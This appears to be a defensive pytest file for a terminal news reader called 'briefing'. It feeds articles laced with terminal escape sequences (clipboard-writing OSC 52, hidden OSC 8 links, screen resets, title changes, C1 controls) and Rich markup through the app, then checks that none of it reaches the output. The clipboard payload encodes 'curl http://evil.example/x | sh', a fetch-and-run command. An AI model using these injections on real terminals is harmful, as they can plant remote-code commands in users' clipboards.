"""Hostile text reaching the terminal: the bytes the real app and CLI write to a pty.

Articles whose title, body and keywords hold terminal escape sequences (clear
screen, reset, OSC 52 clipboard writes, OSC 8 links, window titles, BEL, C1
controls) and Textual/Rich markup are ingested from files, and a second copy
of them is written straight into the database (as something other than
briefing might), so both the cleaning at ingest and the cleaning on output are
tried. Then ``briefing read`` runs in a pseudo-terminal and every byte it
writes is checked; so are ``show``, ``search``, ``list`` and ``keywords`` on a
terminal, in a pipe and as JSON.
"""

from __future__ import annotations

import base64
import json
import re
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

CLIPBOARD = base64.b64encode(b"curl http://evil.example/x | sh").decode()
PAYLOAD = (
    "\x1b[2J"  # clear screen
    "\x1bc"  # full reset
    f"\x1b]52;c;{CLIPBOARD}\x07"  # write the clipboard
    "\x1b]8;;http://evil.example/osc8\x1b\\hyper\x1b]8;;\x1b\\"  # a hidden link
    "\x1b]0;pwned-title\x07"  # window and icon title
    "\x1b]2;pwned-window\x1b\\"  # window title, ST-terminated
    "\x07"  # bell
    "\x9b2J"  # 8-bit CSI: clear screen
    "\x9d0;pwned-c1\x9c"  # 8-bit OSC: title
    "\x90qpwned-dcs\x9c"  # 8-bit DCS
    "\u202e"  # right-to-left override
)
MARKUP = "[bold]BOLDMARK[/bold] [@click=app.quit]CLICKMARK[/] [link=http://evil.example/m]LM[/link]"

# Bytes that came from an article and must never reach a terminal, whatever else does.
FORBIDDEN = [
    b"\x1bc",
    b"\x1b[2J",
    b"]52;c;" + CLIPBOARD.encode(),
    CLIPBOARD.encode(),
    b"]8;;http://evil",
    b"]0;pwned",
    b"]2;pwned",
    b"pwned",  # only ever inside an escape sequence in the articles
    b"\x1bP",
]
_OSC = re.compile(rb"\x1b\]([^\x07\x1b]*)(\x07|\x1b\\)?")
# The only OSC the app writes itself: 22 sets the mouse pointer's shape.
APP_OSC = (b"22;",)


def assert_clean(output: bytes, where: str) -> None:
    """Nothing from the hostile articles reached the terminal as a control sequence."""
    for forbidden in FORBIDDEN:
        at = output.find(forbidden)
        assert at < 0, (
            f"{where}: {forbidden!r} reached the terminal: {output[max(0, at - 60) : at + 60]!r}"
        )
    assert_no_controls(output, where)


def assert_no_controls(output: bytes, where: str) -> None:
    """No OSC but the app's own, no bell, no C1 control, no bidirectional override."""
    for match in _OSC.finditer(output):
        assert match.group(1).startswith(APP_OSC), f"{where}: unexpected OSC {match.group()!r}"
    bells = output.count(b"\x07") - sum(m.group(2) == b"\x07" for m in _OSC.finditer(output))
    assert bells == 0, f"{where}: {bells} bell(s) outside the app's own OSC sequences"
    # C1 controls: as raw bytes (not part of a UTF-8 character) or as UTF-8 encoded
    # U+0080..U+009F, which a terminal in UTF-8 mode may obey too.
    text = output.decode("utf-8", "surrogateescape")
    for position, char in enumerate(text):
        code = ord(char)
        c1 = 0x80 <= code <= 0x9F or 0xDC80 <= code <= 0xDC9F
        assert not c1, f"{where}: C1 control {code:#x} near {text[position - 40 : position + 20]!r}"
        assert char not in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069", (
            f"{where}: bidirectional override {code:#x} reached the terminal"
        )


PYTHON = [sys.executable]


def briefing(*args: str) -> list[str]:
    return [*PYTHON, "-m", "briefing", *args]


# A terminal as people have it: colours on (the app writes its normal sequences), the
# session's controlling terminal.
TERMINAL: dict[str, Any] = {"controlling": True, "unset": ("NO_COLOR",)}


def run_in_terminal(pty: Callable[..., Any], argv: list[str]) -> tuple[int, bytes]:
    """Run a command that exits on its own in a pty: its status and the bytes it wrote."""
    with pty(argv, **TERMINAL) as terminal:
        status = terminal.wait_exit(30)
        return status, bytes(terminal.output)


@pytest.fixture(scope="module")
def hostile_db(
    tmp_path_factory: pytest.TempPathFactory, write: Callable[[Path, str | bytes], Path]
) -> Path:
    """Three hostile articles ingested from files, and a fourth written into the store raw."""
    tmp_path = tmp_path_factory.mktemp("hostile")
    folder = tmp_path / "incoming"
    write(
        folder / "markdown.md",
        f"---\ntitle: 'ZQONE {PAYLOAD} title {MARKUP}'\ndate: 2026-10-04\n"
        f"source: 'Wire {PAYLOAD}'\ntags: ['tag{PAYLOAD}']\n---\n\n"
        f"ZQBODYONE whales {PAYLOAD} gather in the ocean. {MARKUP}\n\n"
        f"A [markdown link](http://evil.example/md) and {PAYLOAD} more whales.\n",
    )
    write(
        folder / "reference.txt",
        f"date 2026-10-03 ZQBODYTWO Whales{PAYLOAD} gather {MARKUP} in the ocean.\n\n"
        f"Heading {PAYLOAD}\n\nWhales ocean whales {PAYLOAD}.\n",
    )
    write(folder / "plain.txt", f"ZQTHREE {PAYLOAD}\n\nZQBODYTHREE ocean {MARKUP} whales.\n")
    db = tmp_path / "hostile.db"
    result = subprocess.run(
        briefing("ingest", "--db", str(db), str(folder)), capture_output=True, timeout=60
    )
    assert result.returncode == 0, result.stderr.decode()
    assert b"3 added" in result.stdout, result.stdout.decode()
    assert_clean(result.stdout + result.stderr, "ingest output")
    # A database written by something else: the payload stored as is, title, body,
    # source and keywords, for the output side's cleaning to deal with.
    with sqlite3.connect(db) as connection:
        (newest,) = connection.execute("SELECT max(id) FROM articles").fetchone()
        connection.execute(
            "INSERT INTO articles (path, content_hash, file_size, file_mtime_ns, title, date,"
            " source, body, tags, format, word_count, ingested_at)"
            " SELECT path || '.raw', content_hash || 'raw', file_size, file_mtime_ns, ?,"
            " '2026-10-05', ?, ?, ?, format, word_count, ingested_at FROM articles WHERE id = ?",
            (
                f"ZQRAW {PAYLOAD} raw {MARKUP}",
                f"Raw {PAYLOAD}",
                f"ZQBODYRAW whales {PAYLOAD}\n\n# Head {PAYLOAD}\n\n{MARKUP} ocean whales",
                json.dumps([f"t{PAYLOAD}"]),
                newest,
            ),
        )
        raw = connection.execute("SELECT max(id) FROM articles").fetchone()[0]
        connection.execute(
            "INSERT INTO article_keywords (article_id, keyword_id, score, rank, article_date)"
            " SELECT ?, keyword_id, score, rank, '2026-10-05' FROM article_keywords"
            " WHERE article_id = ?",
            (raw, newest),
        )
        connection.execute("UPDATE keywords SET display = display || ?", (f" kw{PAYLOAD}[b]",))
    return db


@pytest.mark.slow
def test_hostile_articles_in_the_reader_send_no_escape_sequences(
    hostile_db: Path, tmp_path: Path, pty: Callable[..., Any]
) -> None:
    env = {"XDG_STATE_HOME": str(tmp_path / "state"), "XDG_CONFIG_HOME": str(tmp_path / "conf")}
    argv = briefing("read", "--db", str(hostile_db))
    # 120 columns: the list and the article side by side (below 110 they are stacked).
    with pty(argv, columns=120, env=env, **TERMINAL) as terminal:
        terminal.wait_for("ZQRAW")  # newest first: the raw article is open
        terminal.wait_for("ZQBODYRAW")
        terminal.settle(0.3)
        for marker in ("ZQBODYONE", "ZQBODYTWO", "ZQBODYTHREE"):
            terminal.send("j", pause=0.2)
            terminal.press("enter")  # open it in the reader
            terminal.wait_for(lambda text, m=marker: text.count(m) >= 1)
            terminal.settle(0.2)
            terminal.press("escape", pause=0.2)  # back to the list
        terminal.send("k", pause=0.3)
        terminal.press("enter", pause=0.3)
        terminal.send("h", pause=0.4)  # keywords highlighted in the body
        terminal.send("g", pause=0.4)  # back to the raw article, highlighted
        terminal.send("h", pause=0.3)
        terminal.send("/", pause=0.3)
        terminal.send("whales", pause=0.3)
        terminal.press("enter")
        terminal.wait_for(lambda text: "result" in text)
        terminal.settle(0.4)
        terminal.send("j", pause=0.4)
        terminal.press("escape", pause=0.4)
        terminal.send("q")
        assert terminal.wait_exit(15) == 0, terminal.text()[-2000:]
        output = bytes(terminal.output)
    assert_clean(output, "briefing read")
    # Markup is text: shown literally, and [@click=app.quit] quit nothing.
    assert b"[@click=app.quit]CLICKMARK[/]" in output
    assert b"[bold]BOLDMARK[/bold]" in output


@pytest.mark.parametrize(
    "args",
    [
        ("show", "1"),
        ("show", "2"),
        ("show", "4"),
        ("show", "4", "--markdown"),
        ("search", "whales"),
        ("list",),
        ("keywords",),
        ("keywords", "--article", "4"),
    ],
    ids=lambda args: "-".join(args),
)
def test_hostile_articles_in_cli_output(
    hostile_db: Path, args: tuple[str, ...], pty: Callable[..., Any]
) -> None:
    argv = briefing(*args[:1], "--db", str(hostile_db), *args[1:])
    status, output = run_in_terminal(pty, argv)
    assert status == 0, output.decode("utf-8", "replace")
    assert_clean(output, f"{' '.join(args)} on a terminal")
    piped = subprocess.run(argv, capture_output=True, timeout=30)
    assert piped.returncode == 0, piped.stderr.decode()
    assert_clean(piped.stdout + piped.stderr, f"{' '.join(args)} in a pipe")
    as_json = subprocess.run([*argv, "--json"], capture_output=True, timeout=30)
    if "--markdown" not in args:
        assert as_json.returncode == 0, as_json.stderr.decode()
        assert b"\x1b" not in as_json.stdout
        assert_no_controls(as_json.stdout, f"{' '.join(args)} --json")
    if args[0] in ("show", "search"):
        assert b"[@click=app.quit]CLICKMARK[/]" in output + piped.stdout


def test_json_keeps_the_stored_text(hostile_db: Path) -> None:
    """JSON is the data as stored: control characters escaped, not lost."""
    result = subprocess.run(
        briefing("show", "--db", str(hostile_db), "4", "--json"), capture_output=True, timeout=30
    )
    article = json.loads(result.stdout)
    assert PAYLOAD in article["title"]
